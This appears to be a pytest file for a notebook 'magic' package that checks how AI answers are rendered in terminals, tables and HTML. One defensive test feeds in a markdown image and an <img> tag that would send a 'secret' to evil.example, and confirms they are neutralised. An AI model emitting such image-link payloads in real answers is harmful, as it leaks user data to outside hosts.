"""An answer that is shown again in a terminal; lists that the magics print."""

import io

import pytest

from qwen_magic.answer import Answer
from qwen_magic.frontends import display
from qwen_magic.frontends.display import show_answer
from qwen_magic.frontends.plain import cells, say

ANSWER = Answer("# Primes\n\n- two\n- three")


class Terminal(io.StringIO):
    encoding = "utf-8"

    def isatty(self):
        return True


def test_it_is_drawn_in_a_terminal(monkeypatch):
    pytest.importorskip("rich")
    out = Terminal()
    monkeypatch.setattr("sys.stdout", out)
    monkeypatch.setenv("TERM", "xterm")
    show_answer(ANSWER)
    assert "Primes" in out.getvalue()
    assert "# Primes" not in out.getvalue()
    assert "•" in out.getvalue()


def test_it_is_plain_text_elsewhere(capsys):
    show_answer(ANSWER)
    assert capsys.readouterr().out == ANSWER.text + "\n"


def test_numbers_stand_at_the_right_edge_and_cells_are_text():
    rows = [["<b>x</b>", "1,628", "just now"], ["y", "", "2 min ago"], ["z", "12", ""]]
    html = display.listing_html(["name", "tokens", "age"], rows, "a <i>note</i>")
    assert html.count('align="right"') == 4
    assert "<b>" not in html
    assert "<i>" not in html
    lines = display.listing_text(["name", "tokens"], [row[:2] for row in rows]).split("\n")
    assert lines[-1].endswith("     12")


def test_what_a_magic_tells_fits_a_terminal(monkeypatch):
    """80 columns: the last column goes on below itself; where the others take all the room, each
    row is a paragraph. Wide characters count twice, and no word is cut."""
    header = ["", "name", "turns", "what"]
    rows = [["→", "质数的对话", "12", "a short one"], ["", "main", "3", "word " * 20]]
    monkeypatch.setattr("sys.stdout", out := Terminal())
    say(display.listing_text(header, rows))
    lines = out.getvalue().splitlines()
    assert cells(lines[1].partition("a short")[0]) == 22
    assert lines[3].startswith(" " * 22 + "word")
    rows[1][1] = "x" * 60
    say(display.listing_text(header, rows))
    lines += out.getvalue().splitlines()[len(lines) :]
    assert "→ 质数的对话" in lines
    assert "  turns: 12 · what: a short one" in lines
    assert max(map(cells, lines)) <= 80
    assert " ".join(lines).count("word") == 40


def test_an_answer_as_a_value_loads_nothing():
    text = "Look: ![x](http://evil.example/?secret=42) <img src=http://evil.example/y>"
    for answer in (Answer(text), Answer(text, status="stopped", model="m", seconds=2.0)):
        data, _metadata = answer._repr_mimebundle_()
        assert data["text/plain"] == text
        assert "![" not in data["text/markdown"]
        assert "<img" not in data["text/markdown"] + data["text/html"]
        assert "x (evil.example)" in data["text/markdown"]
